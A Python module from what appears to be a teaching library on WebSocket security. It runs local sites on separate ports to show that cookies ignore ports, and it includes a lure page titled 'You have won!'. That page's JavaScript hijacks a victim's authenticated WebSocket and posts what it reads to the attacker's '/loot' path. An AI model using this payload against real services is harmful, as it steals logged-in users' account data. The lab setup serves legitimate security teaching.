"""Web sites for the lesson on security: pages on a port of their own, so that one browser has two origins.

An origin is a scheme, a host and a port (RFC 6454 §4). Two sites on two ports of this machine are two
origins, as a bank and an attacker are. Cookies know no ports (RFC 6265 §8.5): what one of the two sets, the
browser sends to the other, too. And so it does with the WebSockets of this machine.
"""

from __future__ import annotations

import asyncio
import json
from contextlib import closing, suppress
from typing import TYPE_CHECKING

from wslearn.errors import HandshakeError
from wslearn.http import Headers, Request, Response
from wslearn.labs.streams import StreamServer

if TYPE_CHECKING:
    from collections.abc import Mapping, Sequence

__all__ = ["Site", "attack_page", "login_page"]

_PATIENCE = 10.0  # seconds for a request; browsers open connections that they may need later, and say nothing
_LARGEST_BODY = 64 * 1024  # bytes

_PAGE = """\
<!doctype html>
<html lang="en">
<meta charset="utf-8">
<title>{title}</title>
<link rel="icon" href="data:,">
<h1>{title}</h1>
{body}
"""
_LOGIN = """\
<p>You are logged in. Your browser has a cookie now, and keeps it for ten minutes.
Close this tab, and go on in the notebook.</p>"""
_ATTACK = """\
<p>Please wait while we look for your prize.</p>
<p role="status">…</p>
<script>
  const status = document.querySelector("[role=status]")
  const socket = new WebSocket({url})   // the browser adds the bank's cookie
  let stolen = ""
  socket.onmessage = async ({{ data }}) => {{
    stolen = data
    await fetch("/loot", {{ method: "POST", body: data }})   // home with it
    status.textContent = "This page has read: " + data
  }}
  socket.onclose = ({{ code }}) => {{
    if (!stolen) status.textContent = "This page has read nothing. Close code " + code
  }}
</script>"""


class Site(StreamServer):
    """Pages on a port of this machine, on a thread of their own.

    Parameters
    ----------
    pages
        HTML by path. What is posted to any path is kept in `received`.
    headers
        Further fields of every answer, such as ``("Set-Cookie", …)``.
    port
        0 takes a free one.

    Raises
    ------
    UsageError
        When the port is taken.

    Attributes
    ----------
    port : int
        Where it listens.
    origin : str
        What a browser calls it: scheme, host and port.
    url : str
        The URL of its first page.
    received : list of str
        What was posted, the oldest first.

    Examples
    --------
    >>> from urllib.request import urlopen
    >>> with Site({"/": "<h1>Hello</h1>"}) as site, urlopen(site.url) as answer:
    ...     answer.read()
    b'<h1>Hello</h1>'
    """

    def __init__(
        self, pages: Mapping[str, str], *, headers: Sequence[tuple[str, str]] = (), port: int = 0
    ) -> None:
        self._pages = {path: page.encode() for path, page in pages.items()}
        self._headers = headers
        self.received: list[str] = []
        super().__init__("wslearn site", port=port)
        self.origin = f"http://127.0.0.1:{self.port}"
        self.url = self.origin + next(iter(self._pages))

    def __repr__(self) -> str:
        return f"<Site {'running' if self.running else 'stopped'}: {', '.join(self._pages)}>"

    async def _talk(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Answer one request; who speaks no HTTP gets no answer."""
        unanswered = (TimeoutError, OSError, EOFError, asyncio.LimitOverrunError, HandshakeError, ValueError)
        with closing(writer), suppress(*unanswered):
            async with asyncio.timeout(_PATIENCE):
                request = Request.parse(await reader.readuntil(b"\r\n\r\n"))
                size = int(request.headers.get("Content-Length") or 0)
                body = await reader.readexactly(size) if size <= _LARGEST_BODY else None
                writer.write(self._answer(request, body).serialize())
                await writer.drain()

    def _answer(self, request: Request, body: bytes | None) -> Response:
        page = b""
        if body is None:
            status, reason = 413, "Content Too Large"
        elif request.method == "POST":
            status, reason = 200, "OK"
            self.received.append(body.decode(errors="replace"))
        elif request.path in self._pages:
            status, reason, page = 200, "OK", self._pages[request.path]
        else:
            status, reason = 404, "Not Found"
        fields = [
            ("Content-Type", "text/html; charset=utf-8"),
            ("Content-Length", str(len(page))),
            ("Cache-Control", "no-store"),
            ("Connection", "close"),
        ]
        return Response(status, reason, Headers([*fields, *self._headers]), page)


def login_page() -> str:
    """Write the page that a bank shows after a login.

    Examples
    --------
    >>> "<h1>The bank</h1>" in login_page()
    True
    """
    return _PAGE.format(title="The bank", body=_LOGIN)


def attack_page(url: str) -> str:
    """Write the page of an attacker: it reads what a WebSocket gives to the browser that opens the page.

    Parameters
    ----------
    url
        The victim's WebSocket.

    Examples
    --------
    >>> 'new WebSocket("ws://bank.example/account")' in attack_page("ws://bank.example/account")
    True
    """
    literal = json.dumps(url).replace("<", "\\u003c")  # the first "</script>" would end the script
    return _PAGE.format(title="You have won!", body=_ATTACK.format(url=literal))
